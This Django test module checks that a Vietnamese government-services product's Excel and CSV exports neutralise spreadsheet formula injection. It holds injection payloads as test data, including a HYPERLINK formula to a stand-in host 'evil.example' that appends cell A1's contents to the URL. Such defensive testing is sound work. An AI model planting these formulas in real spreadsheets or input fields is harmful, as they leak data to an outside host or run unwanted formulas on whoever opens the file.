"""Formula injection (security review M5): text from users, imports or the API that starts with
= + - @, a tab or a carriage return must stay text in every workbook and CSV file the product
writes. Each export is run through its real view or job with such text in the fields it shows;
the file is opened again: no cell is a formula, the text is kept (in a workbook: a text cell with
the quote prefix, so Excel does not evaluate it even when the cell is edited; in a CSV file: with
a leading single quote, as OWASP advises)."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

PAYLOADS = [
    '=HYPERLINK("http://evil.example/","x")',  # (38 characters: fits every field, a procedure code too)
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem tài liệu gốc")'  # the probe's abstract
STARTS = ("=", "+", "-", "@", "\t", "\r")


def check_workbook(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    formulas = [f"{cell.parent.title}!{cell.coordinate}: {cell.value!r}" for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formulas in the workbook: {formulas}"
    for payload in PAYLOADS:
        found = [cell for cell in cells if cell.value == payload]
        # a form may print the text after its label ("Tên người nộp: Ông/Bà =…", "VP: =…"): kept,
        # and harmless as long as the cell does not start with it
        inside = [
            cell
            for cell in cells
            if isinstance(cell.value, str) and payload.strip() in cell.value and not cell.value.startswith(STARTS)
        ]
        assert found or inside, f"{payload!r} is not in the workbook as it was written"
        loose = [cell.coordinate for cell in found if not (cell.data_type == "s" and cell.quotePrefix)]
        assert not loose, f"{payload!r} is not marked as text (quote prefix) in {loose}"


def check_csv(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fields = [value for row in rows for value in row]
    live = [value for value in fields if value.startswith(STARTS)]
    assert not live, f"fields a spreadsheet would evaluate: {live}"
    for payload in PAYLOADS:
        assert "'" + payload in fields, f"{payload!r} is not kept (with its leading quote)"


def download(client, user, name, **params):
    client.force_login(user)
    kwargs = params.pop("kwargs", None)
    response = client.get(reverse(name, kwargs=kwargs), params)
    assert response.status_code == 200, (name, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content  # core.web.download


# --- one function per export: puts the payloads where the export shows text, returns the file


def control_slip(client, org, cal, **_):
    """Mẫu 06: the applicant's name (API, import) and the hand-overs (giver, note)."""
    from procedures import services
    from procedures.models import Dossier, Handover, Procedure

    procedure = Procedure.objects.create(agency=org.agency, code="1.001", name="Cấp phép", limit=5)
    received = dt.datetime(2026, 3, 9, 9, tzinfo=dt.UTC)
    dossier = services.receive(
        actor=org.office, agency=org.agency, procedure=procedure, received_at=received, cal=cal, unit=org.unit_a
    )
    Dossier.objects.filter(pk=dossier.pk).update(applicant_name=PAYLOADS[0])
    for n, payload in enumerate(PAYLOADS[1:]):
        Handover.objects.create(
            dossier=dossier, handed_at=received + dt.timedelta(hours=n), giver=payload, receiver="VP", note=payload
        )
    return download(client, org.office, "procedures:control_slip", kwargs={"pk": dossier.pk}), check_workbook


def register(client, org, cal, **_):
    """Mẫu 07, the register: the applicant's name of each dossier."""
    from procedures import services
    from procedures.models import Dossier, Procedure

    procedure = Procedure.objects.create(agency=org.agency, code="1.001", name="Cấp phép", limit=5)
    for n, payload in enumerate(PAYLOADS):
        dossier = services.receive(
            actor=org.office,
            agency=org.agency,
            procedure=procedure,
            received_at=dt.datetime(2026, 3, 9, 9 + n, tzinfo=dt.UTC),
            cal=cal,
            unit=org.unit_a,
        )
        Dossier.objects.filter(pk=dossier.pk).update(applicant_name=payload)
    return download(client, org.office, "procedures:register", format="xlsx"), check_workbook


def _round(org, today):
    from core.models import Agency
    from scorecards import services
    from scorecards.loader import DEMO_SET, load_criteria_file
    from scorecards.models import Scorecard

    snv = Agency.objects.get(code="SNV")
    stored, _ = load_criteria_file(DEMO_SET, province=snv.province, publish=True)
    round_ = services.create_round(
        actor=org.appraiser,
        organizer=snv,
        criteria_set=stored,
        agencies=[org.agency],
        name="Chỉ số CCHC 2026",
        year=2026,
        today=today,
        deadlines={"self_closes_on": today + dt.timedelta(days=10)},
    )
    services.advance_phase(actor=org.appraiser, round_=round_)
    return stored, Scorecard.objects.get(round=round_, agency=org.agency)


def evidence_index(org, today, **_):
    """The evidence package's index: number, issuer and abstract typed by officers."""
    from core.services import create_document
    from reports import jobs
    from scorecards.evidence import link_evidence
    from scorecards.models import NodeScore

    _stored, card = _round(org, today)
    score = NodeScore.objects.get(scorecard=card, code="1.1.1", block="")
    for n, payload in enumerate(PAYLOADS):
        document = create_document(
            actor=org.officer,
            agency=org.agency,
            unit=None,
            fileobj=io.BytesIO(f"%PDF-1.4\n% {n}\n%%EOF\n".encode()),
            filename=f"tai-lieu-{n}.pdf",
            abstract=payload,
            doc_number=payload,
            issuer=payload,
        )
        link_evidence(actor=org.office, score=score, document=document, today=today)
    item = jobs.generate(jobs.request_file(kind="evidence_zip", agency=org.agency, actor=org.office, scorecard=card))
    assert item.state == "done", item.error
    with item.file.open("rb") as handle, zipfile.ZipFile(io.BytesIO(handle.read())) as archive:
        return archive.read("Muc_luc_tai_lieu_kiem_chung.xlsx"), check_workbook


def plan_appendix(org, plan, make_task, **_):
    """The plan's appendix workbook: task titles and products."""
    from reports import jobs

    for payload in PAYLOADS:
        make_task(title=payload, expected_product=payload, appendix="I")
    item = jobs.generate(jobs.request_file(kind="plan_xlsx", agency=org.agency, actor=org.office, plan=plan))
    assert item.state == "done", item.error
    with item.file.open("rb") as handle:
        return handle.read(), check_workbook


def task_export(client, org, make_task, **_):
    """The task list's Excel export."""
    for payload in PAYLOADS:
        make_task(title=payload, target=payload)
    return download(client, org.office, "plans:task_list", export="xlsx"), check_workbook


def report_tables(org, **_):
    """The periodic report's tables (XLSX): procedure fields come from the catalogue import."""
    from procedures.models import Dossier, Procedure
    from reports import jobs
    from reports.models import Report

    for n, payload in enumerate(PAYLOADS):
        procedure = Procedure.objects.create(agency=org.agency, code=f"1.00{n}", name="Thủ tục", field=payload, limit=5)
        Dossier.objects.create(
            agency=org.agency,
            procedure=procedure,
            procedure_code=procedure.code,
            code=f"D{n}",
            received_at=dt.datetime(2026, 1, 12, 9, tzinfo=dt.UTC),
            due_date=dt.date(2026, 1, 20),
            status="finished",
            finished_at=dt.datetime(2026, 1, 15, 9, tzinfo=dt.UTC),
            channel="direct",
        )
    report = Report.objects.create(agency=org.agency, year=2026, kind="q1", title="Báo cáo quý I")
    item = jobs.generate(jobs.request_file(kind="report_xlsx", agency=org.agency, actor=org.office, report=report))
    assert item.state == "done", item.error
    with item.file.open("rb") as handle:
        return handle.read(), check_workbook


def catalogue_export(client, org, **_):
    """The procedure catalogue's export: names and fields."""
    from procedures.models import Procedure

    for n, payload in enumerate(PAYLOADS):
        Procedure.objects.create(agency=org.agency, code=f"2.00{n}", name=payload, field=payload, limit=5)
    return download(client, org.office, "procedures:catalogue", format="xlsx"), check_workbook


def criteria_export(client, org, today, **_):
    """The criteria set as Excel: node names and guidance written by the drafters."""
    stored, _card = _round(org, today)
    definition = stored.definition
    nodes = definition["nodes"]
    for node, payload in zip(nodes, PAYLOADS, strict=False):
        node["guidance"] = payload
    nodes[0]["name"] = PAYLOADS[0]
    stored.definition = definition
    stored.save(update_fields=["definition"])
    assert len(nodes) >= len(PAYLOADS)
    return (
        download(client, org.office, "scorecards:criteria_export", kwargs={"pk": stored.pk, "fmt": "xlsx"}),
        check_workbook,
    )


def scorecard_export(client, org, today, **_):
    """The scoring table (XLSX): the agency's notes on its scores."""
    from scorecards.models import NodeScore

    _stored, card = _round(org, today)
    scores = list(NodeScore.objects.filter(scorecard=card, block="", code__contains=".").order_by("pk"))
    for score, payload in zip(scores, PAYLOADS, strict=False):
        NodeScore.objects.filter(pk=score.pk).update(note=payload)
    return download(client, org.office, "scorecards:scorecard", kwargs={"pk": card.pk}, export="xlsx"), check_workbook


def sipas_responses(client, org, **_):
    """The SIPAS responses export (CSV): procedure codes come from imported files."""
    from surveys.models import Campaign, Response

    campaign = Campaign.objects.create(
        agency=org.agency, name="Đợt 1", starts_on=dt.date(2026, 1, 1), ends_on=dt.date(2026, 1, 31)
    )
    for payload in PAYLOADS:
        Response.objects.create(
            agency=org.agency,
            campaign=campaign,
            channel="paper",
            source="import",
            questionnaire="sipas-service-2026",
            answered_on=dt.date(2026, 1, 15),
            answers={"q15": 4},
            procedure_code=payload,
        )
    for user in (org.admin, org.office):  # (row-level responses are for the managers, or the administrator)
        client.force_login(user)
        response = client.get(reverse("surveys:export"), {"campaign": campaign.pk})
        if response.status_code == 200:
            return response.getvalue(), check_csv
    pytest.fail("nobody may export the responses")


def feedback_open311(client, org, cal, **_):
    """The feedback register in Open311 CSV: the responsible unit's name."""
    from core.models import Unit
    from feedback import services

    units = []
    for n, payload in enumerate(PAYLOADS):
        units.append(Unit.objects.create(agency=org.agency, code=f"X{n}", name=payload))
    for unit in units:
        item, _key = services.receive(
            agency=org.agency,
            channel="phone",
            name="Lê Văn C",
            address="Lạng Sơn",
            phone="0912000111",
            content="Phản ánh",
            cal=cal,
            received_at=timezone.now(),
        )
        services.classify(item=item, actor=org.office, category="regulation", within_competence=True, unit=unit)
    return download(client, org.office, "feedback:export", format="csv"), check_csv


EXPORTS = [
    control_slip,
    register,
    evidence_index,
    plan_appendix,
    task_export,
    report_tables,
    catalogue_export,
    criteria_export,
    scorecard_export,
    sipas_responses,
    feedback_open311,
]


@pytest.mark.parametrize("export", EXPORTS, ids=[e.__name__ for e in EXPORTS])
def test_no_export_turns_text_into_a_formula(export, client, org, cal, today, plan, make_task):
    data, check = export(client=client, org=org, cal=cal, today=today, plan=plan, make_task=make_task)
    check(data)


def test_real_numbers_and_dates_stay_native(org, cal):
    """Only text is neutralised: a negative number, a Decimal and a date keep their types."""
    from decimal import Decimal

    from openpyxl import Workbook

    from core import sheets

    wb = Workbook()
    ws = wb.active
    sheets.append(ws, [-5, Decimal("-1.25"), dt.date(2026, 1, 2), "-5", "x"])
    row = next(load_workbook(io.BytesIO(sheets.to_bytes(wb))).active.iter_rows())
    assert [c.value for c in row[:2]] == [-5, -1.25] and row[0].data_type == row[1].data_type == "n"
    assert row[2].is_date and row[3].value == "-5" and row[3].quotePrefix and not row[4].quotePrefix
    out = io.StringIO()
    sheets.csv_writer(out).writerow([-5, "-5", "x"])
    assert out.getvalue() == "-5,'-5,x\r\n"


def test_a_form_upload_with_a_formula_stays_text_in_the_evidence_index(client, org, today):
    """The probe's path (M5, steps 4-6): an officer types the formula into the evidence form."""
    from core.models import Document
    from reports import jobs
    from scorecards.evidence import link_evidence
    from scorecards.models import NodeScore

    _stored, card = _round(org, today)
    client.force_login(org.officer)
    client.post(
        reverse("evidence_upload"),
        {
            "abstract": LEAK,
            "doc_number": "=1+1",
            "file": SimpleUploadedFile("a.pdf", b"%PDF-1.4\n%%EOF\n"),
        },
    )
    document = Document.objects.get(abstract=LEAK)
    score = NodeScore.objects.get(scorecard=card, code="1.1.1", block="")
    link_evidence(actor=org.office, score=score, document=document, today=today)
    item = jobs.generate(jobs.request_file(kind="evidence_zip", agency=org.agency, actor=org.office, scorecard=card))
    with item.file.open("rb") as handle, zipfile.ZipFile(io.BytesIO(handle.read())) as archive:
        book = load_workbook(io.BytesIO(archive.read("Muc_luc_tai_lieu_kiem_chung.xlsx")))
    cells = {cell.value: cell for row in book.active.iter_rows() for cell in row if cell.value}
    assert cells[LEAK].data_type == "s" and cells["=1+1"].data_type == "s" and cells["=1+1"].quotePrefix
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_the_sipas_exchange_file_reads_its_own_quoted_text_back():
    """The responses export is an exchange file: what it quoted is read back as it was."""
    from core import sheets
    from surveys.questionnaire import load
    from surveys.responses_file import read_responses

    questionnaire = load().questionnaire
    out = io.StringIO()
    writer = sheets.csv_writer(out)
    writer.writerow(["response_id", *questionnaire.items, "procedure_code"])
    writer.writerow(["R1", *([4] * len(questionnaire.items)), "-2+3"])
    (response,) = read_responses(out.getvalue(), questionnaire)
    assert "'-2+3" in out.getvalue() and response.procedure_code == "-2+3"


def test_control_characters_do_not_break_an_export(client, org, cal):
    """A control character XML cannot hold (here from the API) is dropped; the register still downloads."""
    from procedures import services
    from procedures.models import Dossier, Procedure

    procedure = Procedure.objects.create(agency=org.agency, code="1.001", name="Cấp phép", limit=5)
    dossier = services.receive(
        actor=org.office,
        agency=org.agency,
        procedure=procedure,
        received_at=dt.datetime(2026, 3, 9, 9, tzinfo=dt.UTC),
        cal=cal,
        unit=org.unit_a,
    )
    Dossier.objects.filter(pk=dossier.pk).update(applicant_name="Nguyễn\x0bVăn\x01 A")
    book = load_workbook(io.BytesIO(download(client, org.office, "procedures:register", format="xlsx")))
    names = [row[4] for row in book.active.iter_rows(values_only=True) if len(row) > 4]
    header = names.index("Tên cá nhân, tổ chức")
    assert names[header + 1] == "NguyễnVăn A"
